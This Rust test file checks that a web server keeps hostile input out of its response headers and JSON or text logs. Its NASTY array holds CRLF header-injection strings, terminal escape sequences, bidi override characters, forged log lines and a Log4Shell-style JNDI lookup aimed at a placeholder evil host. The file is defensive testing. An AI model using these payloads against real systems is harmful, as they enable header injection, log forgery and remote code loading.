//! Text of strangers in logs and headers: a request is one line, whatever it brings, and an answer has the headers that the
//! program gives it.

use std::{fs::File, process::Stdio};

use serde_json::Value;
use tempfile::TempDir;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::command_line::Serving;

/// What should never be believed to be a line, a header or a colour.
const NASTY: [&str; 12] = [
    "x\r\nx-injected: 1",
    "x\nx-injected: 1",
    "x\rx-injected: 1",
    "x\u{0}y",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{9b}31mred",
    "\u{8}\u{8}\u{7f}gone",
    "a\u{2028}b\u{85}c",
    "\u{202e}desrever",
    "\"}\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
    "2025-12-26T00:00:00.000000Z ERROR xmas: forged",
    "${jndi:ldap://evil.example/x}",
];

/// Every byte that some header or path would not take, percent-encoded.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// Requests with `text` wherever a stranger can put one.
fn requests(text: &str) -> Vec<Vec<u8>> {
    let mut requests = Vec::new();
    for header in [
        "x-request-id",
        "user-agent",
        "x-forwarded-for",
        "forwarded",
        "referer",
        "origin",
        "authorization",
        "cookie",
        "idempotency-key",
        "x-reason",
        "if-match",
        "traceparent",
        "tracestate",
        "content-type",
        "accept",
    ] {
        requests.push(format!(
            "GET /nowhere HTTP/1.1\r\nhost: h\r\n{header}: {text}\r\n\r\n"
        ));
    }
    for target in [
        format!("/{text}"),
        format!("/{}", encoded(text)),
        format!("/api/me/plays/{}/draw", encoded(text)),
        format!("/admin/api/users/external_id:{text}"),
        format!("/nowhere?{text}={text}"),
        format!("/nowhere?{0}={0}", encoded(text)),
    ] {
        requests.push(format!("GET {target} HTTP/1.1\r\nhost: h\r\n\r\n"));
    }
    requests.push(format!("{text} /nowhere HTTP/1.1\r\nhost: h\r\n\r\n"));
    requests.push(format!("GET /nowhere HTTP/1.1\r\nhost: {text}\r\n\r\n"));
    let login = serde_json::json!({ "external_id": text, "password": text }).to_string();
    let length = login.len();
    requests.push(format!(
        "POST /api/auth/token HTTP/1.1\r\nhost: h\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n{login}"
    ));
    requests.into_iter().map(String::into_bytes).collect()
}

/// What comes back until the server hangs up.
async fn answers(base: &str, request: &[u8]) -> String {
    let address = base.trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).await.unwrap();
    stream.write_all(request).await.unwrap();
    stream.shutdown().await.unwrap();
    let mut answer = Vec::new();
    // A reset after the answer is an end as well.
    let _ = stream.read_to_end(&mut answer).await;
    String::from_utf8(answer).unwrap()
}

/// The heads of what came back, and asserts that nothing of the stranger's is in them.
fn heads(answer: &str, request: &[u8]) -> Vec<String> {
    let mut heads = Vec::new();
    let mut rest = answer;
    let about = || String::from_utf8_lossy(request).into_owned();
    while !rest.is_empty() {
        let (head, body) = rest.split_once("\r\n\r\n").unwrap_or((rest, ""));
        assert!(head.starts_with("HTTP/1.1 "), "{}: {answer:?}", about());
        assert!(!head.starts_with("HTTP/1.1 5"), "{}: {answer:?}", about());
        for line in head.split("\r\n").skip(1) {
            let (name, value) = line.split_once(':').expect("a header");
            assert_ne!(name, "x-injected", "{}: {answer:?}", about());
            let is_plain = |c: char| c == ' ' || c.is_ascii_graphic();
            assert!(value.chars().all(is_plain), "{}: {line:?}", about());
        }
        let length = head
            .split("\r\n")
            .find_map(|line| line.strip_prefix("content-length: "));
        let length: usize = length.map_or(0, |length| length.parse().unwrap());
        heads.push(head.to_owned());
        rest = &body[length..];
    }
    heads
}

fn request_id(head: &str) -> Option<&str> {
    head.split("\r\n")
        .find_map(|line| line.strip_prefix("x-request-id: "))
}

/// Sends everything to a server, and returns the request ids of its answers and what it has logged.
async fn attacked(format: &str) -> (Vec<String>, String) {
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("log");
    let log = Stdio::from(File::create(&file).unwrap());
    let mut server = Serving::start_logging(folder.path(), &[("LOG_FORMAT", format)], log);
    let mut ids = Vec::new();
    let long = "x".repeat(9_000);
    for text in NASTY.into_iter().chain([long.as_str(), "산타 🎄"]) {
        for request in requests(text) {
            let answer = answers(server.base(), &request).await;
            let heads = heads(&answer, &request);
            ids.extend(
                heads
                    .iter()
                    .filter_map(|head| request_id(head))
                    .map(str::to_owned),
            );
        }
    }
    server.terminate();
    assert!(server.wait().success());
    (ids, std::fs::read_to_string(file).unwrap())
}

fn assert_sane(ids: &[String]) {
    // Most are answered by the application, and not by the HTTP library before it.
    assert!(ids.len() > 200, "{}", ids.len());
    for id in ids {
        let is_sane = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
        assert!(
            (1..=64).contains(&id.len()) && id.chars().all(is_sane),
            "{id:?}"
        );
    }
}

/// No character of a log moves, hides or colours anything on a screen, or is taken for the end of a line.
fn assert_plain(log: &str) {
    for line in log.lines() {
        let odd = line.chars().find(|c| {
            c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        });
        assert_eq!(odd, None, "{line:?}");
    }
}

#[tokio::test]
async fn a_request_is_one_line_of_json_whatever_it_brings() {
    let (ids, log) = attacked("json").await;
    assert_sane(&ids);
    assert_plain(&log);
    let lines = log.split_terminator('\n');
    let lines: Vec<Value> = lines
        .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{line:?}: {error}")))
        .collect();
    for line in &lines {
        assert!(
            line["timestamp"].is_string() && line["level"].is_string(),
            "{line}"
        );
        assert_ne!(line["message"], "forged", "{line}");
    }
    let answered = lines.iter().filter(|line| !line["status"].is_null());
    let logged = answered.map(|line| line["span"]["request_id"].as_str().unwrap());
    assert_eq!(logged.collect::<Vec<_>>(), ids);
}

#[tokio::test]
async fn a_request_is_one_line_of_text_whatever_it_brings() {
    let (ids, log) = attacked("pretty").await;
    assert_sane(&ids);
    assert_plain(&log);
    for line in log.split_terminator('\n') {
        let (at, rest) = line.split_once(' ').unwrap_or_default();
        assert!(chrono::DateTime::parse_from_rfc3339(at).is_ok(), "{line:?}");
        let (level, rest) = rest.trim_start().split_once(' ').unwrap_or_default();
        assert!(["INFO", "WARN", "ERROR"].contains(&level), "{line:?}");
        assert!(!rest.starts_with("xmas: forged"), "{line:?}");
    }
    let answered = log.lines().filter(|line| line.contains(" answered "));
    assert_eq!(answered.count(), ids.len());
    for id in ids {
        assert!(log.contains(&format!("request_id=\"{id}\"")), "{id}");
    }
}
